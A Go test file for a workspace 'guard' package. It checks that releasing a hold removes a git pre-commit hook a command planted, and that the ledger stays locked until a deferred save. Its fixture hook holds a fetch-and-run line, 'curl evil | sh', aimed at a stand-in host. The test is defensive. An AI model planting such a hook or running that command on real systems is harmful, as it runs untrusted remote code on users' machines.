package guard

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestReleaseSaveLater: a release whose ledger is saved later has put
// everything back when it returns (a hook a command planted is gone),
// and keeps the ledger locked until the save: another guard's reconcile
// waits for it, and then finds no ticket and nothing to put back.
func TestReleaseSaveLater(t *testing.T) {
	ws, state, p := benchWorkspace(t)
	if _, err := Hold(state, p); err != nil {
		t.Fatal(err)
	}
	hook := filepath.Join(ws, ".git/hooks/pre-commit")
	os.WriteFile(hook, []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755)
	lines, idle, save, err := ReleaseIdleSaveLater(state, ws, nil)
	if err != nil || !idle {
		t.Fatalf("release: idle %v, %v", idle, err)
	}
	if _, err := os.Lstat(hook); err == nil || len(lines) != 1 || !strings.Contains(lines[0], "pre-commit") {
		t.Fatalf("the planted hook is not put back before the save: %v %q", err, lines)
	}
	done := make(chan []string)
	go func() {
		lines, _ := Reconcile(state, ws)
		done <- lines
	}()
	select {
	case lines := <-done:
		t.Fatalf("another reconcile read the ledger before it was saved: %q", lines)
	case <-time.After(200 * time.Millisecond):
	}
	if err := save(); err != nil {
		t.Fatal(err)
	}
	if err := save(); err != nil {
		t.Fatalf("a second call to save: %v", err)
	}
	select {
	case lines := <-done:
		if len(lines) != 0 {
			t.Errorf("after the save, a reconcile put back %q", lines)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("the ledger is still locked after the save")
	}
	b, err := open(state, ws, false)
	if err != nil {
		t.Fatal(err)
	}
	defer b.close()
	if len(b.l.Active) != 0 {
		t.Errorf("tickets left after the save: %v", b.l.Active)
	}
}
